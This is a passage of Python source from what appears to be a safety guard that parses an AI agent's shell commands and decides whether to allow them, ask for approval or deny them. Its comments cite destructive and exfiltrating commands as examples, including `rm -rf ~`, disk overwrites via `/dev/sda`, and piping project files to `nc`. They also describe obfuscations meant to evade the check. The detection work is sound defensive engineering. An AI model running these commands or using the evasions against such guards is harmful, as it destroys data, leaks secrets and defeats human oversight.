            return False  # (one set lookup a piece: most are no such program's)
        program = self.policy.programs.get(command_name(_decoded([word])[0]))
        if program is None or not program.grammar.runs_nothing:
            return False
        words = _decoded(piece.split(None, _FLAT_LONG)[:_FLAT_LONG])
        return runs_nothing(program, parse_argv(program.grammar, words))

    # -- detection ------------------------------------------------------------------

    def patterns_for(self, tool: str, argument: str) -> tuple[CompiledPattern, ...]:
        return self._by_target.get((tool, argument), ())

    def detect_command(
        self,
        value: str,
        patterns: Iterable[CompiledPattern],
        *,
        cwd: str | None = None,
        seen: Readings | None = None,
        session: SessionView | None = None,
    ) -> tuple[list[Match], str | None]:
        """Matches of ``patterns`` in a shell command, in every reading, and why it could not be read.

        ``cwd`` is where it runs (the terminal's argument): judged as if `cd CWD &&` preceded it.
        Matches found only in another reading than the raw text are not grantable. ``session``:
        what the caller's session wrote before (a file it runs is judged by its text).
        """
        patterns = tuple(patterns)
        budget = _LazyBudget()
        prefix = f"cd -- {shell_word(cwd)} && " if cwd else ""
        if seen is None and suspicious(value):
            seen = readings(value, suspect=True)
        if seen is not None and seen.extra:
            budget.judged = _Judged()
        # One view of the file system for every reading: one check sees one state of it.
        view = self.classifier.view()
        matches, problem = self._detect_text(prefix + value, patterns, budget, session, view)
        if seen is not None and seen.extra:
            # (by severity too: a guessed or quiet reading's match in one reading hides no certain one in another,
            # holes39: `\x00 shutdown rm` reads `shutdown` as an undescribed program's operand, unquoted as itself)
            known = {(m.key, m.command, m.severity) for m in matches}
            for extra in seen.extra:
                found, _ = self._detect_text(prefix + extra, patterns, budget, session, view)
                for match in found:
                    if (match.key, match.command, match.severity) not in known:
                        known.add((match.key, match.command, match.severity))
                        matches.append(replace(match, grantable=False))
        return matches, problem

    def _detect_text(
        self,
        text: str,
        patterns: tuple[CompiledPattern, ...],
        lazy: _LazyBudget,
        session: SessionView | None = None,
        view: View | None = None,
    ) -> tuple[list[Match], str | None]:
        """Matches in one reading, and why it could not be read in full (if so)."""
        index = self._index(patterns)
        if len(text) > MAX_LENGTH:
            problem = f"the command is {len(text)} characters long; the limit is {MAX_LENGTH}"
            return self._flat_scan(text, index, lazy.judged), problem
        if view is None:
            # One view of the file system per check: where words land (symbolic links) is looked up once.
            view = self.classifier.view()
        workdir = self.workdir if session is None else None
        if self._can_skip(text, view) and (
            not session.mentioned(text) if session is not None else not (workdir and runs_path(text))
        ):
            try:
                return self._match([], text, index, None, view) or [], None
            except RegexTimeout as exc:
                return self._flat_scan(text, index, lazy.judged), str(exc)
        diskview: DiskView | None = None
        if workdir is not None:
            # (bg49) no session (a check, a guard hook): the files the line runs are read from the disk (DiskView); a
            # parse that asked for none is kept as before, one that read files while they are as read (perf50)
            from engine.policy.views import DiskView  # noqa: PLC0415 (a guard start skips it)

            session = diskview = DiskView(workdir, self.disk_settle)
        disk = diskview is not None
        cacheable = (session is None or disk) and len(text) <= _BUDGETED and self.parse_cache > 0
        parsed = self._parses.get(text) if cacheable else None
        if parsed is None and diskview is not None and cacheable and self.disk_parse_cache > 0:
            parsed = self._disk_parse(text, diskview)
        if parsed is not None and parsed[2] and any(_dash_names(view, None, cwd) for cwd in parsed[2]):
            parsed = None  # (xf46) a folder its globs expand in holds a name starting with `-` now: read again
            self._parses.pop(text, None)
            with self._disk_lock:
                self._disk_parses.pop(text, None)
        analyzer = Analyzer(self.policy.programs, session) if parsed is None else None
        if analyzer is not None:  # (a glob character may come from a value the line computes: `printf '\52'`)
            analyzer.dash_names = partial(_dash_names, view, session)
            analyzer.line_ended = partial(_line_ended, view)
        # A short text cannot reach the token budget in any way that matters (its parse is
        # bounded by its size, the depth and command limits): only longer ones pay for it.
        budget = lazy.get() if len(text) > _BUDGETED else None
        token = BUDGET_OF_CHECK.set(budget) if budget is not None else None
        try:
            unparseable: str | None = None
            if parsed is not None:
                commands, unread, _ = parsed
            else:
                assert analyzer is not None
                try:
                    analyzer.analyze(text)
                    commands = analyzer.commands
                    # (lead42) not a reading that looked at the disk (a git alias in git's files): the files may change
                    if cacheable and not analyzer.read_disk:
                        entry = (commands, tuple(analyzer.unread), tuple(analyzer.dash_folders))
                        if diskview is None or not diskview.asked:
                            if len(self._parses) >= self.parse_cache:
                                self._parses.clear()  # simpler than an LRU, and safe under threads
                            self._parses[text] = entry
                        elif diskview.stamps is not None and self.disk_parse_cache > 0:
                            self._keep_disk_parse(text, entry, diskview.stamps)
                except (TooComplex, OverBudget) as limit:
                    # Past a limit: what was read so far, and a flat scan of the whole text.
                    read = self._match(analyzer.commands, text, index, None) or []
                    return [*read, *self._flat_scan(text, index, lazy.judged)], str(limit)
                except ShellSyntaxError as syntax:
                    unparseable = str(syntax)
                    try:  # judge what the words would do if the quoting were fixed
                        commands = parse(_QUOTES.sub(" ", text), self.policy.programs)
                    except (TooComplex, OverBudget):
                        return self._flat_scan(text, index, lazy.judged), unparseable
                    except ShellSyntaxError:
                        commands = []
                unread = tuple(analyzer.unread)
            if session is not None and session.files.archives and not disk:
                commands = _sent_archives(commands, session, self.policy.programs)
            commands = _batch_puts(commands, self.policy.programs)
            # (xfail41) a background shell whose earlier lines may have put POSIXLY_CORRECT in its environment
            environ = session is not None and session.shell is not None and session.shell.environ
            found = self._match(
                commands,
                text,
                index,
                budget.deadline if budget is not None else None,
                view,
                environ=environ,
                session=session,
            )
            if found is None:
                return self._flat_scan(text, index, lazy.judged), "judging it took longer than its time budget"
            if unread:
                found.extend(_unread(list(unread)))
            return found, unparseable
        except RegexTimeout as exc:
            return self._flat_scan(text, index, lazy.judged), str(exc)
        finally:
            if token is not None:
                BUDGET_OF_CHECK.reset(token)

    def _disk_parse(
        self, text: str, diskview: DiskView
    ) -> tuple[list[Command], tuple[str, ...], tuple[str | None, ...]] | None:
        """(perf50) The kept parse of ``text``, a line that read files from the disk, when every file is as it was
        then (DiskView.same: the same answer, or the same file by path, inode, size and times, not changed within
        ``disk_settle`` seconds); else None (and it is dropped). The check's view reads none of them again."""
        with self._disk_lock:
            kept = self._disk_parses.get(text)
            if kept is None:
                return None
            self._disk_parses.move_to_end(text)
        commands, unread, folders, stamps = kept
        if not diskview.same(stamps):
            with self._disk_lock:
                if self._disk_parses.get(text) is kept:
                    del self._disk_parses[text]
            return None
        diskview.asked = True
        return commands, unread, folders

    def _keep_disk_parse(
        self,
        text: str,
        entry: tuple[list[Command], tuple[str, ...], tuple[str | None, ...]],
        stamps: dict[str, object],
    ) -> None:
        """(perf50) Keep the parse of a line that read files from the disk with what they were (DiskView.stamps)."""
        with self._disk_lock:
            self._disk_parses.pop(text, None)
            self._disk_parses[text] = (entry[0], entry[1], entry[2], dict(stamps))
            while len(self._disk_parses) > self.disk_parse_cache:
                self._disk_parses.popitem(last=False)

    def _match(
        self,
        commands: list[Command],
        text: str,
        index: _Index,
        deadline: float | None,
        view: View | None = None,
        environ: bool = False,
        session: SessionView | None = None,
    ) -> list[Match] | None:
        """Every pattern matching a command (or the text); None once past ``deadline``. ``environ``: the commands
        run in a shell whose earlier lines may have set POSIXLY_CORRECT (session_memory.ShellState.environ).
        ``session``: the caller's session (its earlier quiet searches: _prints_trees)."""
        if view is None:
            view = self.classifier.view()
        unwalked: list[Match] = []
        if commands:
            commands = _through_tree_links(commands, view, unwalked)
            if any(c.program is not None and c.program.deletes_listed is not None for c in commands):
                commands = _listed_deletes(commands, view, self.policy.programs)
            if "socat" in text:
                commands = _socat_addresses(commands)
        # A line that sends a tree reader's output or a recursive copy to another host: a folder word
        # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
        # A recursive search printing every file's text to the caller (`grep -r X .`) reads it to them too.
        sends = bool(commands) and _sends_away(commands, self.policy.programs.senders)
        view.printed_only = not sends and bool(commands) and _prints_trees(commands, text, view, session)
        view.holders = sends or view.printed_only
        if view.holders:
            # a tree reader naming no folder reads the working one (`fd -X cat | nc h 80`): judged with it named;
            # a tree copied on the line is read where it came from (`cp -r . /tmp/c && tar c /tmp/c | nc h 80`)
            commands = _copied_trees(_implicit_folders(_printed_folders(commands)))
        elif commands and any(command.name in _TREE_COPIERS for command in commands):
            # a file read in a tree copied on the line is read where it came from (`cp -r . ../c; cat ../c/.*`: the
            # copy is not on disk when the line is judged, so its globs land on nothing; open37, redt37). Readers only:
            # what deletes or lists the copy (`cp -r . /tmp/b && rm -rf /tmp/b/*`) touches the copy, not the source
            made = _copied_trees(commands)[len(commands) :]
            commands = [*commands, *(c for c in made if c.name not in _COPY_UNREAD and c.name not in _FINDERS)]
        if _may_glob_dots(text) and (
            _DOT_GLOBS.search(text) is not None or (_QUOTED_DOT_GLOBS.search(text) is not None and _dot_globs(commands))
        ):
            commands = _with_dot_names(commands)
        classify = view.classify
        regex_ok: dict[int, bool] = {}
        hits: list[tuple[int, Match]] = []
        seen: set[tuple[int, str]] = set()
        candidates = index.candidates
        engine_names = self._engine_names
        engine_fragments = self._engine_fragments
        by_classes = self.by_classes
        # A command equal to one judged before in every field a matcher reads meets the same
        # matchers alike: each of its matches is already in `seen`, so it is passed over whole
        # (`$(a) $(a) ...`, `true; true; ...`: hundreds of one command in a long line).
        judged: set[tuple[object, ...]] | None = set() if len(commands) > _REPEATS_PAST and self.skip_repeats else None
        plain: set[str] = set()
        if by_classes and len(commands) > _REPEATS_PAST:
            # Many commands: their plain names (`rm a1; rm a2; ...`) classified at once, one RE2 pass
            # (View.classify_plain remembers those whose only class is `relative`), not ~70 µs each.
            words = {word for command in commands for word in command.argv[1:]}
            if len(words) > _FLAT_BULK:
                plain = view.classify_plain(words)
        # Commands that differ only in plain words no matcher of their name tells apart (see
        # _match_plan) meet the same matchers alike: the first of each form is judged, the others
        # take its matches (`rm n1; rm n2; ...`: a few hundred new names in one line).
        forms: dict[tuple[object, ...], list[tuple[int, CompiledPattern]]] | None = None
        if judged is not None and plain:
            forms = {}
        folded: dict[tuple[int, str], bool] = {}
        plans = index.match_plans
        for n, command in enumerate(commands):
            if n & 15 == 15 and deadline is not None and thread_time() > deadline:
                return None
            if judged is not None:
                same = command.identity()
                if same in judged:
                    continue
                judged.add(same)
            shown = command.text
            # (help38) A program that prints its help or version, or only parses, and exits (its grammar's
            # `runs_nothing`: `systemctl --hel reboot`) runs nothing a hardline pattern reads in its words: such a
            # match asks instead. Not with a redirection: the shell opens it whatever runs (`sudo --help > /dev/sda`
            # overwrites the disk). One field read for every other program.
            quiet = command.guessed  # (holes39) follow._carried's bare reading (`mywrap reboot`) asks
            program = command.program
            if program is not None and program.grammar.runs_nothing and not command.redirects and not quiet:
                reading = command.reading
                if reading is None:
                    reading = command.reading = parse_argv(program.grammar, command.argv)
                quiet = runs_nothing(program, reading) or (
                    runs_nothing_later(program.grammar, command.argv, reading)
                    and not environ
                    and not _posixly_correct(text)
                    and not _environment_unknown(command, text, self.policy.programs.keeps_environment)
                    and not sets_unnamed(commands)
                )
            # a quiet reading's matches are kept apart: they hide no match of the same text read for certain
            # (`tmux new -d \; run reboot` reads `reboot` both ways)
            mark = shown if not quiet else "\0" + shown
            form: tuple[object, ...] | None = None
            if forms is not None and command.cwd is None and command.name and _plain_grammar(command.program):
                name = command.name
                if name in plans:
                    tests = plans[name]
                else:
                    tests = plans[name] = _match_plan(index, name)
                if tests is not None:
                    marker = id(tests)
                    key: list[str] = [command.argv[0]]
                    for word in command.argv[1:]:
                        alike = folded.get((marker, word))
                        if alike is None:
                            alike = folded[marker, word] = word in plain and not any(test(word) for test in tests)
                        key.append(_ANY_WORD if alike else word)
                    form = (name, tuple(key), *same[2:])
                    known = forms.get(form)
                    if known is not None:
                        via = command.via
                        for i, pattern in known:
                            if (i, mark) not in seen:
                                seen.add((i, mark))
                                severity = pattern.severity
                                if quiet:
                                    severity = _QUIETER.get(severity, severity)
                                hits.append((i, Match(pattern.key, pattern.description, severity, shown, via)))
                        continue
            found: list[tuple[int, CompiledPattern]] = []
            # A name known only at run time (`$EDITOR f`, `timeout 5 "$CMD"`) passes every matcher's
            # name test; one that tests nothing but the name (`shutdown`, `killall5`) says only "it
            # could be that program": those together are one unknown-command match (see _unknown).
            unknown_at = -1 if command.name else _NOT_YET
            bare = len(command.argv) < 2  # no words after its name: matchers that need some cannot match
            # The classes the command's positionals hold, all forms together (made when first needed).
            # Not after a `cd` on the line: there a matcher reads relative words under that directory.
            held: frozenset[str] | None = None
            holding = by_classes and command.cwd is None
            for i, pattern, matcher, name_checked in candidates(command, engine_names, view, engine_fragments):
                if bare and matcher.needs_words:
                    continue
                # Every matching command is reported: an allow rule may cover one and not another.
                # The first of a form is judged in full: the others take every match it has.
                if form is None and seen and (i, mark) in seen:
                    continue
                needed = matcher.arg_classes
                if needed is not None and holding:
                    if held is None:
                        held = _positional_classes(command, classify)
                    if held.isdisjoint(needed):
                        continue  # its `args` test needs a positional in one of these: none is
                regex = pattern.regex
                if regex is not None:
                    ok = regex_ok.get(i)
                    if ok is None:
                        ok = regex_ok[i] = regex.search_text(text) is not None
                    if not ok:
                        continue
                if matcher.matches_command(command, view, name_checked, classify):
                    if unknown_at >= 0 and pattern.severity in _BUILT_IN and _by_name_alone(matcher):
                        unknown_at = min(unknown_at, i)
                        continue
                    if form is not None:
                        found.append((i, pattern))
                        if (i, mark) in seen:
                            continue
                    seen.add((i, mark))
                    severity = pattern.severity
                    if quiet:
                        severity = _QUIETER.get(severity, severity)
                    hits.append((i, Match(pattern.key, pattern.description, severity, shown, command.via)))
            if form is not None and forms is not None:
                forms[form] = found
            if 0 <= unknown_at < _NOT_YET and (-1, shown) not in seen:
                seen.add((-1, shown))
                hits.append((unknown_at, _unknown(command)))
        # curl, wget and python decode a URL's %XX escapes (`http://%31%36%39.254.169.254/` is
        # 169.254.169.254, adv33): a text's own regexes that are not hardline (a URL's, not the shell's)
        # read it decoded too; one too escaped to decode here (_MAX_ESCAPES) matches them unread
        decoded = _percent_decoded(text) if "%" in text else None
        for i, pattern in index.regex_only:
            if pattern.regex.search_text(text) or (  # type: ignore[union-attr]
                decoded is not None
                and pattern.severity != "hardline"
                and (decoded is _TOO_ESCAPED or pattern.regex.search_text(decoded))  # type: ignore[union-attr]
            ):
                hits.append((i, Match(pattern.key, pattern.description, pattern.severity, text.strip())))
        if len(hits) > 1:
            hits.sort(key=_first)
        matched = [match for _, match in hits] + unwalked
        if view.asked_before and any(match.key == "project_exfiltration" for match in matched):
            matched.append(Match(QUIET_SEARCH_AGAIN, _QUIET_AGAIN, "dangerous", view.asked_before))
        return matched

    def _flat_scan(self, text: str, index: _Index, judged: _Judged | None = None) -> list[Match]:
        """Hardline matches in text that cannot be parsed in full, found without parsing it
        (_flat_read). A backslash before a line break joins the lines in bash (`r\\<LF>m -rf
        \\<LF>~` is `rm -rf ~`), unless the backslash is itself quoted: both readings are judged.
        ``judged``: the pieces earlier flat scans of the same check (other readings of the text) judged
        in full: not judged again (see _Judged)."""
        found = self._flat_read(text, index, judged)
        if "\\\n" in text:
            seen = {(m.key, m.command) for m in found}
            for match in self._flat_read(text.replace("\\\n", ""), index, judged):
                if (match.key, match.command) not in seen:
                    seen.add((match.key, match.command))
                    found.append(match)
        return found

    def _flat_read(self, text: str, index: _Index, judged: _Judged | None = None) -> list[Match]:
        found = self._flat_words(text, index, judged)
        expanded = _flat_expanded(text)
        if expanded is not None:
            seen = {(m.key, m.command) for m in found}
            for match in self._flat_words(expanded, index, judged):
                if (match.key, match.command) not in seen:
                    seen.add((match.key, match.command))
                    found.append(match)
        # (debt43) what the expanded reading left an expansion in command position: a name known only at run time
        last = expanded if expanded is not None else text
        if "$" in last and len(found) < _FLAT_MATCHES:
            seen = {(m.key, m.command) for m in found}
            for match in self._flat_unnamed(last, index):
                if (match.key, match.command) not in seen:
                    seen.add((match.key, match.command))
                    found.append(match)
        return found

    def _flat_unnamed(self, text: str, index: _Index) -> list[Match]:
        """(debt43) Hardline matches of the flat text's commands whose name is an expansion the flat scan's expanded
        reading does not make (`${!b} -rf ~`, `${a/x/r} -rf ~`, `read a <<< rm; $a -rf ~`, a name past its 64 or its
        room), judged as the parsed reading judges a command whose name is known only at run time (`$a -rf ~` is
        the hardline, `$EDITOR f` is not): the matchers such a name passes (adv42's open flat-scan expansions).
        One C search of the text cut at its operators; the distinct runs judged within FLAT_SECONDS, what is not
        judged then is not taken as harmless."""
        unquoted = _unquoted(text)
        if "$" not in unquoted:
            return []
        cut = unquoted
        for operator in ";&|()<>`":  # (a replace per operator the text holds: str.translate is slow on wide text)
            if operator in cut:
                cut = cut.replace(operator, "\n")
        runs = dict.fromkeys(tuple(found.split()) for found in _FLAT_UNNAMED.findall(cut))
        if not runs:
            return []
        view = self.classifier.view()
        moves = _flat_directories(unquoted)
        if not moves and len(runs) > _FLAT_BULK:  # (`$c1 x1; $c2 x2; ...`: plain words judged once, as named runs)
            words = set().union(*(argv[1:] for argv in runs))
            words.update([w.split("=", 1)[1] for w in words if "=" in w])
            runs = dict.fromkeys(_unnamed_representatives(runs, index, view.classify_plain(words)))
        folders: tuple[str | None, ...] = (None, *moves)
        out: dict[tuple[str, str], Match] = {}
        deadline = thread_time() + FLAT_SECONDS
        for n, argv in enumerate(runs):
            if len(out) >= _FLAT_MATCHES:
                break
            if n & 15 == 15 and thread_time() > deadline:
                out[_UNJUDGED, ""] = Match(
                    _UNJUDGED,
                    f"a text too long and too costly to judge in full ({FLAT_SECONDS:g} s of CPU judged {n} of its "
                    "commands whose name is known only at run time): what was not read is not taken as harmless",
                    "hardline",
                    text[:200].strip(),
                    grantable=False,
                )
                break
            moved = folders if any(w[:1] not in _ANCHORED for w in argv[1:]) else (None,)
            for folder in moved:
                command = Command("", argv, (True, *(False,) * (len(argv) - 1)), cwd=folder)
                for _, pattern, matcher, name_checked in index.candidates(
                    command, self._engine_names, None, self._engine_fragments
                ):
                    # (a matcher that tests the name alone says only "it could be that program": the parsed
                    # reading's unknown-command ask, which the over-limit text is already)
                    if pattern.severity != "hardline" or (pattern.key, command.text) in out or _by_name_alone(matcher):
                        continue
                    if matcher.matches_command(command, view, name_checked):
                        out[pattern.key, command.text] = Match(
                            pattern.key, pattern.description, pattern.severity, command.text, grantable=False
                        )
        return list(out.values())

    def _flat_words(self, text: str, index: _Index, judged: _Judged | None = None) -> list[Match]:
        """Hardline matches in text that cannot be parsed in full, found without parsing it.

        Quoting is removed and the text is cut at every character that may end a command;
        each run of words that starts with a name a hardline pattern knows is judged as a
        command (so wrappers, `eval` chains and `bash -c` payloads are seen through). Linear
        in the text; every match is not grantable.
        """
        out: dict[tuple[str, str], Match] = {}
        view = self.classifier.view()
        # The flat scan keeps no order: a run may run in any folder a `cd` of the text names.
        unquoted = _unquoted(text)  # once: each reader below reads the text without quoting
        moves = _flat_directories(unquoted)
        # Where the words are read: here, and in each folder a `cd` names (None: one the text
        # alone does not name; then no word is read as any other).
        places = [view.folder(m) for m in moves]
        where: tuple[str, ...] | None = None if None in places else tuple(p for p in places if p is not None)
        # Pieces that differ only in plain words no hardline test tells apart are read once.
        fold = _FlatFold.of(index).boring_in(view, where)
        kept = _FlatFold.of(index).kept_in(view, where) if fold is not None else None
        # Pieces another reading of the text judged in the same folders are not read again: a reading
        # that changes a few characters of 64 KiB costs what it changes, not a scan of it all.
        skip = judged.pieces(moves) if judged is not None else None
        read: list[bytes] = []
        cuts: list[bytes] | None = None
        if judged is not None:
            cuts = [judged.cuts[moves]] if moves in judged.cuts else []
        # The first reading judged in these folders skips nothing: when it cuts the whole text, its
        # pieces are kept as that cut (_Pieces), not one by one.
        first = skip is not None and skip.empty()
        runs = dict.fromkeys(
            _flat_commands(unquoted, index, fold, kept, None if first else skip, read, cuts, self._quiet_piece)
        )  # each distinct run once
        classify = view.classify
        argvs: Iterable[tuple[str, ...]] = runs
        if len(runs) > _FLAT_BULK:  # many distinct words: plain names classified at once
            words = set().union(*runs)
            words.update([w.split("=", 1)[1] for w in words if "=" in w])  # values: see _representatives
            anywhere = view.classify_plain(words)
            for place in where or ():
                anywhere &= view.classify_plain(anywhere, place, _FlatFold.of(index).classes)
            # A folder the text does not name (`cd $x`): read as before, by the working directory's
            # classes (found by adv11, left open: judging each run in it costs ~0.5 s at 64 KiB).
            argvs = _representatives(runs, index, classify, anywhere if moves and where is not None else None)
        folders: tuple[str | None, ...] = (None, *moves) if runs else (None,)
        bulk = len(runs) > _FLAT_BULK
        plans = index.flat_plans
        deadline = thread_time() + FLAT_SECONDS
        for n, argv in enumerate(argvs):
            if len(out) >= _FLAT_MATCHES:
                break  # the verdict is a hardline deny already; more matches change nothing
            if n & 15 == 15 and thread_time() > deadline:
                out[_UNJUDGED, ""] = Match(
                    _UNJUDGED,
                    f"a text too long and too costly to judge in full ({FLAT_SECONDS:g} s of CPU judged "
                    f"{n} of its commands): what was not read is not taken as harmless",
                    "hardline",
                    text[:200].strip(),
                    grantable=False,
                )
                break
            # Only a run with a relative word can judge otherwise in another folder; among many
            # runs, only those judged once for many (a name whose matchers read no subcommand or
            # text: rm, find, shred ...), so a `cd` multiplies the work by at most _FLAT_FOLDERS.
            moved = folders
            if not any(w[:1] not in _ANCHORED for w in argv[1:]) or (bulk and plans.get(command_name(argv[0])) is None):
                moved = (None,)
            for folder in moved:
                command = Command(command_name(argv[0]), argv, (False,) * len(argv), cwd=folder)
                for _, pattern, matcher, name_checked in index.candidates(
                    command, self._engine_names, None, self._engine_fragments
                ):
                    if pattern.severity != "hardline" or (pattern.key, command.text) in out:
                        continue
                    if matcher.matches_command(command, view, name_checked):
                        out[pattern.key, command.text] = Match(
                            pattern.key, pattern.description, pattern.severity, command.text, grantable=False
                        )
        else:
            # Every run was judged (no stop at _FLAT_MATCHES or the deadline): its pieces are known.
            if skip is not None:
                if first and cuts:  # cut whole (_flat_commands): every line of it was read
                    skip.add_cut(cuts[-1])
                else:
                    skip.update(read)
                if judged is not None and cuts:
                    judged.cuts[moves] = cuts[-1]
        # Redirections to a device (`cat /dev/zero > /dev/sda`): the runs above carry none.
        targets = _flat_device_targets(unquoted)
        if len(targets) > _FLAT_DEVICES:
            targets = _FlatFold.of(index).devices_to_judge(view, targets)
        for target in targets[:_FLAT_DEVICES]:
            command = Command(":", (":",), (False,), redirects=((">", target),))
            for _, pattern, matcher, name_checked in index.candidates(
                command, self._engine_names, None, self._engine_fragments
            ):
                if (
                    pattern.severity == "hardline"
                    and (pattern.key, target) not in out
                    and matcher.matches_command(command, view, name_checked)
                ):
                    out[pattern.key, target] = Match(
                        pattern.key, pattern.description, pattern.severity, "> " + target, grantable=False
                    )
        for _, pattern in index.regex_only:
            regex = pattern.regex
            # A bounded (non-linear) regex may have just run out of time: only linear ones here.
            if pattern.severity == "hardline" and regex is not None and regex.linear and regex.search_text(text):
                out[pattern.key, ""] = Match(
                    pattern.key, pattern.description, pattern.severity, text[:200].strip(), grantable=False
                )
        return list(out.values())

    def _index(self, patterns: tuple[CompiledPattern, ...]) -> _Index:
        # Keyed by the tuple's identity: the per-target tuples live as long as the evaluator,
        # and the entry keeps its tuple alive so the id cannot be reused.
        entry = self._indexes.get(id(patterns))
        if entry is None or entry[0] is not patterns:
            entry = self._indexes[id(patterns)] = (patterns, _Index.build(patterns))
        return entry[1]

    def detect_path(self, value: str, patterns: Iterable[CompiledPattern]) -> list[Match]:
        classify = self.classifier.classify
        # A word that reads as remote, a URL or a Windows path is also judged as the local file a
        # file tool opens for it (`ab:/../.env` is `./ab:/../.env`, that is `.env`): the strictest wins.
        local = local_reading(value)
        readings = (value,) if local is None else (value, local)
        return [
            Match(p.key, p.description, p.severity, value)
            for p in patterns
            if any(m.matches_path(reading, classify) for m in p.matchers for reading in readings)
        ]

    def _can_skip(self, text: str, view: View) -> bool:
        """True when no pattern can possibly match: no trigger word or path fragment, nothing hidden."""
        policy = self.policy
        if policy.always_parse:
            return False
        lowered = text.lower()
        # Most lines that are parsed start with a trigger word (`rm -rf x`, `git push`): one split
        # and one set lookup say so, before any regex runs.
        head = lowered.split(None, 1)
        if head and head[0] in policy.trigger_words:
            return False
        if _obfuscated(text):
            return False
        if may_name_directory_tilde(text):
            return False  # the shell's $PWD and $OLDPWD: a word that is a folder (shell._tilde_dir)
        if ("*" in text or "?" in text or "[" in text) and _GLOB_COMMAND.search(text):
            return False
        if "." in text and _WINDOWS_NAME.search(text):
            return False
        # Trigger words first: most lines that reach here hold one, and a set test is cheaper.
        if len(lowered) > _LONG:
            if self._long_triggers.found(lowered):
                return False
        elif not policy.trigger_words.isdisjoint(_WORDS.findall(lowered)):
            return False
        # The literal fragments: on `re` in a short line (no RE2 program to build), else on RE2.
        if self._substring_finder.found(lowered):
            return False
        # A word may land elsewhere than it reads (a symbolic link): judge it where it lands.
        return not view.text_lands_elsewhere(text)

    # -- verdicts ---------------------------------------------------------------------

    def verdict(self, tool: str, args: Mapping[str, Any], session: SessionView | None = None) -> Verdict:
        """The decision for a call to ``tool`` with ``args`` (before anyone is asked).

        ``session``: what the caller's session wrote before this call (see session_memory).
        Never raises: a failure of the detector itself is a verdict that needs approval.
        """
        try:
            return self._verdict(tool, args, session)
        except Exception as exc:  # whatever the input, the caller gets a verdict
            return self._failed(tool, args, exc)

    def _failed(self, tool: str, args: Mapping[str, Any], exc: Exception) -> Verdict:
        """The detector itself failed: approval that no grant covers, or hardline from the flat scan."""
        reason = f"the command could not be judged ({type(exc).__name__}); it needs approval"
        values = [v for argument, _ in self.policy.targets.get(tool, ()) for v in _strings(args.get(argument))]
        unread = Match("unparseable", reason, "dangerous", " ; ".join(values)[:200] or tool, grantable=False)
        try:
            index = self._index(self.patterns_for(tool, "command"))
            # Every reading, as a check would have judged them (a disguise must not soften the fallback).
            texts = [text for value in values for text in (value, *readings(value).extra)]
            hard = [m for text in texts for m in self._flat_scan(text, index)]
        except Exception:  # the scan is plain string work; if even it fails, asking is what is left
            hard = []
        if hard:
            return Verdict(DENY, True, (*hard, unread), "hardline pattern")
        return Verdict(ASK, False, (unread,), reason)

    def _verdict(self, tool: str, args: Mapping[str, Any], session: SessionView | None = None) -> Verdict:
        policy = self.policy
        matches: list[Match] = []
        commands: list[str] = []  # values read as commands, with their simple commands
        unparseable: str | None = None
        for argument, mode in policy.targets.get(tool, ()):
            for given in _strings(args.get(argument)):
                patterns = self.patterns_for(tool, argument)
                value, kind = given, mode
                if kind == "code":  # an inline program, judged as the command line that runs it
                    # Imported here: engine.runtime's package imports asyncio (30 ms a guard start).
                    from engine.runtime.code import inline_command  # noqa: PLC0415

                    value, kind = inline_command(args.get("language"), given), "command"
                if kind == "command":
                    cwd = args.get("cwd") if argument == "command" else None
                    # One scan of a long text (suspicious), not one here and more in readings.
                    seen = readings(value, suspect=True) if suspicious(value) else _PLAIN
                    found, problem = self.detect_command(
                        value, patterns, cwd=cwd if isinstance(cwd, str) else None, seen=seen, session=session
                    )
                    matches.extend(found)
                    unparseable = unparseable or problem
                    disguised = seen.disguised
                    if disguised is not None:
                        reason = f"the command holds {disguised}: it may not do what it shows"
                        matches.append(Match(DISGUISED, reason, "dangerous", value.strip(), grantable=False))
                    commands.append(value)
                else:
                    matches.extend(self.detect_path(value, patterns))
        return self._decide(tool, args, matches, commands, unparseable)

    def check(self, value: str, tool: str = "terminal") -> Verdict:
        """Judge ``value`` as the first guarded argument of ``tool`` (a command for the terminal)."""
        targets = self.policy.targets.get(tool)
        if not targets:
            rules = self.policy.settings.rules.get(tool, {})
            argument = next((name for kind in rules.values() for rule in kind for name, _ in rule.globs), "command")
        else:
            argument = targets[0][0]
        return self.verdict(tool, {argument: value})

    def _decide(
        self,
        tool: str,
        args: Mapping[str, Any],
        matches: list[Match],
        commands: list[str],
        unparseable: str | None,
    ) -> Verdict:
        settings = self.policy.settings
        rules = settings.rules.get(tool)
        if not matches and unparseable is None and not rules and not settings.deny_globs:
            return _ALLOWED  # the common case: nothing matched, nothing to weigh
        rules = rules or {}
        hard = [m for m in matches if m.severity == "hardline"]
        if hard:
            # The others: every match of another severity (none of them equals a hardline one).
            rest = [m for m in matches if m.severity != "hardline"]
            return Verdict(DENY, True, tuple(hard + rest), "hardline pattern")
        if not rules and not settings.deny_globs and not settings.allowlist_globs and unparseable is None:
            # No rule or glob to weigh (the default policy): only the allowlist's keys approve a
            # match, as _covered would say for each (no floor, no ask rule, nothing parsed again).
            keys = settings.allowlist_keys
            pending = [m for m in matches if not (m.grantable and m.key in keys)]
            if pending:
                return Verdict(ASK, False, tuple(pending), "approval required", tuple(commands))
            return Verdict(ALLOW, False, tuple(matches))
        parsed = _pieces(commands, self.policy.programs) if (settings.deny_globs or rules) else None
        floors: list[Match] = []
        if parsed is not None:
            lines, found = parsed
            floors = [
                Match(f"deny:{text}", f"denied by the policy: {text}", "deny", hit)
                for text, glob in settings.deny_globs
                for hit in hit_texts(glob, text, lines, found)
            ]
            floors += [
                Match(f"rule:deny:{r.text}", f"denied by the rule {r.text}", "deny", r.text)
                for r in rules.get("deny", ())
                if _rule_hits(r, args, parsed)
            ]
        if floors:
            return Verdict(DENY, False, tuple(floors + matches), "denied by the approval policy")
        if unparseable is not None:
            reason = f"the command cannot be parsed ({unparseable}); it is not allowed without approval"
            unread = Match("unparseable", reason, "dangerous", " ".join(commands), grantable=False)
            return Verdict(ASK, False, (unread, *matches), reason, tuple(commands))
        asks = [
            Match(f"rule:ask:{r.text}", f"the rule {r.text} asks for approval", "ask", r.text)
            for r in rules.get("ask", ())
            if parsed is not None and _rule_hits(r, args, parsed)
        ]
        allow_rules = rules.get("allow", ())
        programs = self.policy.programs
        # Made when a match is first weighed against a glob (not a functools.cache per verdict: ~5 µs).
        plain_pieces = _LazyPieces(commands, programs, parsed[1] if parsed is not None else None)
        # A command run in another directory (the terminal's cwd) is not the command a glob names.
        moved = bool(args.get("cwd")) and isinstance(args.get("cwd"), str)
        pending = [m for m in matches if not self._covered(m, allow_rules, commands, plain_pieces, moved)]
